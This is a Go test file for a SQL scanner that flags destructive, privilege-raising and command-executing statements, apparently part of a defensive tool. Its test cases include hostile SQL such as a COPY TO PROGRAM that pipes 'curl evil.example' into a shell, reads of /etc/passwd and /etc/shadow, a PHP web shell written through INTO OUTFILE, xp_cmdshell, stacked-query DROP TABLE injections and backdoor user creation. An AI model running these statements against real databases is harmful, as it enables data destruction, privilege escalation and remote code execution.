package normalize

import (
	"strings"
	"testing"
)

// sqlScanCases: statements and what they must (or must not) be found to do. They also seed
// FuzzSQLFindings.
var sqlScanCases = []struct {
	name, sql string
	want      []string // "kind:what" prefixes; nil: nothing found
}{
	{"delete without where", "DELETE FROM customers", []string{"delete:DELETE without WHERE"}},
	{"update without where", "UPDATE accounts SET balance = 0", []string{"delete:UPDATE without WHERE"}},
	{"delete tautology", "DELETE FROM users WHERE 1=1", []string{"delete:DELETE with an always-true WHERE"}},
	{"delete or tautology", "DELETE FROM users WHERE id = 4 OR 'a'='a'", []string{"delete:DELETE with an always-true WHERE"}},
	{"update self compare", "UPDATE t SET x = 0 WHERE id = id", []string{"delete:UPDATE with an always-true WHERE"}},
	{"delete where true", "delete from t where (true)", []string{"delete:DELETE with an always-true WHERE"}},
	{"alter drop column", "ALTER TABLE invoices DROP COLUMN amount_cents", []string{"delete:DROP COLUMN"}},
	{"alter drop bare column", "ALTER TABLE invoices DROP amount_cents", []string{"delete:DROP COLUMN"}},
	{"comment hides drop", "/* nightly cleanup */ DROP TABLE audit_log", []string{"delete:DROP TABLE"}},
	{"truncate", "TRUNCATE audit_events RESTART IDENTITY", []string{"delete:TRUNCATE"}},
	{"multi statement", "SELECT 1; DROP TABLE users; --", []string{"delete:DROP TABLE"}},
	{"mysql executable comment", "SELECT 1 /*!50000 ; DROP TABLE users */", []string{"delete:DROP TABLE"}},
	{"nested comment reading", "/* /* */ ' */ DROP TABLE x; --'", []string{"delete:DROP TABLE"}},
	{"dash without blank in mysql", "SELECT 1--1\n; DELETE FROM t", []string{"delete:DELETE without WHERE"}},
	{"cte delete", "WITH gone AS (DELETE FROM sessions RETURNING *) SELECT count(*) FROM gone", []string{"delete:DELETE without WHERE"}},
	{"grant all", "GRANT ALL PRIVILEGES ON DATABASE app TO intruder", []string{"privilege:GRANT ALL"}},
	{"grant role", "GRANT pg_read_server_files TO app", []string{"privilege:GRANT of a role"}},
	{"create user", "CREATE USER backdoor WITH PASSWORD 'x'", []string{"privilege:CREATE USER"}},
	{"alter role superuser", "ALTER ROLE app SUPERUSER", []string{"privilege:ALTER ROLE"}},
	{"rls off", "ALTER TABLE payments DISABLE ROW LEVEL SECURITY", []string{"privilege:row level security"}},
	{"mysql user table", "UPDATE mysql.user SET Super_priv='Y' WHERE User='app'", []string{"privilege:UPDATE of an account table"}},
	{"copy to program", "COPY (SELECT '') TO PROGRAM 'curl evil.example | sh'", []string{"exec:COPY TO PROGRAM"}},
	{"pg_read_file", "SELECT pg_read_file('/etc/passwd')", []string{"exec:pg_read_file"}},
	{"load_file", "SELECT LOAD_FILE('/etc/shadow')", []string{"exec:load_file"}},
	{"into outfile", "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'", []string{"exec:INTO OUTFILE"}},
	{"xp_cmdshell", "EXEC master..xp_cmdshell 'whoami'", []string{"exec:xp_cmdshell"}},
	{"sqlite attach", "ATTACH DATABASE '/home/user/.bashrc' AS x", []string{"exec:ATTACH DATABASE"}},
	{"do block", "DO $$ BEGIN DELETE FROM accounts; END $$", []string{"delete:DELETE without WHERE"}},
	{"function body", "CREATE FUNCTION purge() RETURNS void AS 'TRUNCATE audit_log' LANGUAGE sql", []string{"delete:TRUNCATE"}},
	{"exec of concatenated literals", "EXEC('DR' + 'OP TABLE users')", []string{"delete:DROP TABLE"}},
	{"exec of a variable", "DECLARE @q nvarchar(99) = N'DROP TABLE users'; EXEC (@q)", []string{"exec:dynamic SQL"}},
	{"execute format", "DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'ledger'); END $$", []string{"delete:TRUNCATE"}},
	{"execute format of a variable", "CREATE FUNCTION wipe(tbl text) RETURNS void AS $$ BEGIN EXECUTE format('SELECT 1 FROM %I', tbl); END $$ LANGUAGE plpgsql", []string{"exec:dynamic SQL"}},
	{"dblink exec", "SELECT dblink_exec('host=10.0.0.5', 'DROP DATABASE prod')", []string{"delete:DROP DATABASE"}},
	{"self sub-query", "DELETE FROM users WHERE id IN (SELECT id FROM users)", []string{"delete:DELETE of every row"}},
	{"self sub-query qualified", "UPDATE public.accounts SET balance = 0 WHERE id IN (SELECT id FROM public.accounts)", []string{"delete:UPDATE of every row"}},
	// Ordinary statements.
	{"select", "SELECT id, email FROM users WHERE id = 42", nil},
	{"insert", "INSERT INTO users (email) VALUES ('a@example.com')", nil},
	{"update with where", "UPDATE users SET name = 'x' WHERE id = 7", nil},
	{"delete with where", "DELETE FROM sessions WHERE expires_at < now()", nil},
	{"drop in a string", "INSERT INTO notes (body) VALUES ('DROP TABLE users; DELETE FROM x')", nil},
	{"drop in a comment", "-- DROP TABLE users\nSELECT 1", nil},
	{"on delete cascade", "CREATE TABLE o (id int, u int REFERENCES users(id) ON DELETE CASCADE ON UPDATE CASCADE)", nil},
	{"upsert", "INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v", nil},
	{"select for update", "SELECT * FROM jobs WHERE id = 3 FOR UPDATE", nil},
	{"migration add column", "ALTER TABLE users ADD COLUMN bio text; CREATE INDEX users_bio ON users(bio)", nil},
	{"migration drop default", "ALTER TABLE users ALTER COLUMN bio DROP DEFAULT; DROP INDEX IF EXISTS users_bio", nil},
	{"grant select", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly", nil},
	{"truncate function", "SELECT TRUNCATE(price, 2) FROM items WHERE id = 1", nil},
	{"copy to stdout", "COPY users TO STDOUT WITH CSV", nil},
	{"dollar quoted body", "CREATE FUNCTION f() RETURNS void AS $$ SELECT 1 $$ LANGUAGE sql", nil},
	{"sub-query of another table", "DELETE FROM orders WHERE customer_id IN (SELECT id FROM banned_customers)", nil},
	{"self sub-query with its own where", "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE deleted)", nil},
	{"prepared statement", "PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(7)", nil},
	{"procedure call", "EXEC dbo.GetOrders 42", nil},
	{"function updating by key", "CREATE FUNCTION touch(i int) RETURNS void AS $$ UPDATE users SET seen = now() WHERE id = i $$ LANGUAGE sql", nil},
}

func TestSQLFindings(t *testing.T) {
	t.Parallel()
	for _, tc := range sqlScanCases {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, f := range sqlFindings(tc.sql) {
				got = append(got, f.kind+":"+f.what)
			}
			if tc.want == nil {
				if len(got) != 0 {
					t.Fatalf("sqlFindings(%q) = %q, want nothing", tc.sql, got)
				}
				return
			}
			for _, w := range tc.want {
				found := false
				for _, g := range got {
					found = found || strings.HasPrefix(g, w)
				}
				if !found {
					t.Errorf("sqlFindings(%q) = %q, want %q", tc.sql, got, w)
				}
			}
		})
	}
}

func TestSQLFindingsBounded(t *testing.T) {
	t.Parallel()
	// Far over the bounds: the scan stops, findings stay bounded, nothing panics.
	big := strings.Repeat("DROP TABLE t; ", 20000)
	if n := len(sqlFindings(big)); n == 0 || n > maxSQLFindings {
		t.Fatalf("findings of a long text = %d, want 1..%d", n, maxSQLFindings)
	}
	for _, s := range []string{"'", "/*", "$a$", "\"", "[", "E'\\", "/*!", "`", "(((((", ")))))"} {
		if len(sqlFindings(s+" ; DELETE FROM t")) == 0 {
			t.Errorf("an unterminated %q hides the DELETE after it", s)
		}
	}
}

func FuzzSQLFindings(f *testing.F) {
	for _, tc := range sqlScanCases {
		f.Add(tc.sql)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fs := sqlFindings(s)
		if len(fs) > maxSQLFindings {
			t.Fatalf("%d findings", len(fs))
		}
		for _, x := range fs {
			if x.kind != EffectDelete && x.kind != EffectPrivilege && x.kind != EffectExec {
				t.Fatalf("finding kind %q", x.kind)
			}
		}
		// A destroying statement appended after a separator is never hidden by what precedes it,
		// unless that text leaves a string, identifier or comment open in every reading.
		if !strings.ContainsAny(s, "'\"`[$/*-#\\") {
			found := false
			for _, x := range sqlFindings(s + "\n;DROP TABLE zz") {
				found = found || x.what == "DROP TABLE"
			}
			if !found {
				t.Fatalf("DROP TABLE after %q not found", s)
			}
		}
	})
}
